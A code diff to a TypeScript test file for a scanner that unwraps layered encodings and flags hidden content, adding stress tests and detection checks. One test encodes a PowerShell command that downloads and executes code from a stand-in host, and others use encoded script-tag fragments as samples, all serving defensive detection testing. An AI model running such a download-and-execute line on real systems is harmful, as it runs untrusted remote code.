@@ -1,13 +1,25 @@
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import { test } from 'node:test';
 import { gzipSync } from 'node:zlib';
 import { checkCases } from '../testing/check-cases.ts';
+import { checkHostileInputs } from '../testing/hostile-inputs.ts';
 import { tool } from './index.ts';
 import { cases } from './testing/cases.ts';
 
-checkCases(tool, cases);
-
 const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64');
+const listOf = (count: number, item: (at: number) => string) =>
+  Array.from({ length: count }, (_, at) => item(at)).join('\n');
+/** Base64 that is not a layer: it decodes to neither text nor a known format. */
+const digest = (at: number) => createHash('sha256').update(`${at}`).digest('base64');
+const harmless = (at: number) => base64(`line ${at} of a harmless list of texts`);
+
+checkCases(tool, cases);
+checkHostileInputs(tool, {
+  'many digests': listOf(1_400, digest),
+  'many digests in many layers': `%41 &amp; \\x41\\x41\\x41 chr(65)\n${listOf(1_400, digest)}`,
+  'many texts': listOf(1_000, harmless),
+});
 
 test('at most five layers are decoded, and the rest is said to be unseen', () => {
   let text = 'the innermost text';
@@ -24,6 +36,32 @@ test('compressed data becomes at most 8 MiB in all, however it is divided', () =
   assert.equal(findings.filter(({ id }) => id === 'decode.bomb').length, 2);
   assert.ok(unseen.includes('Compressed data beyond 8 MiB.'));
   assert.ok(process.memoryUsage().arrayBuffers - before < 32 * 1024 * 1024);
+});
+
+test('a part is found behind many others', () => {
+  const command = base64('IEX (New-Object Net.WebClient).DownloadString("https://a.example/b")');
+  for (const others of [listOf(1_200, digest), listOf(30, harmless)]) {
+    const { findings, unseen } = tool.analyse(`${others}\n${command}`, 0);
+    assert.ok(findings.some(({ id }) => id === 'decode.download-execute'));
+    assert.deepEqual(unseen, []);
+  }
+});
+
+test('what is decoded in place is found, however many parts there are', () => {
+  for (const script of ['%3Cscript%3E', '&lt;script&gt;', '\\x3cscript\\x3e\\x3c', '%41 &lt;script&gt;']) {
+    const { findings, unseen } = tool.analyse(`${listOf(60, harmless)}\n${script}`, 0);
+    assert.ok(
+      findings.some(({ id }) => id === 'decode.hidden-script'),
+      script,
+    );
+    assert.deepEqual(unseen, ['More than 40 layers.']);
+  }
+});
+
+test('at most 2,000 parts are tried, and the rest is said to be unseen', () => {
+  const digests = listOf(1_200, digest);
+  assert.deepEqual(tool.analyse(digests, 0).unseen, []);
+  assert.deepEqual(tool.analyse(`%41\n${digests}`, 0).unseen, ['Encoded parts beyond the first 2,000.']);
 });
 
 test('secrets in decoded texts are not shown', () => {
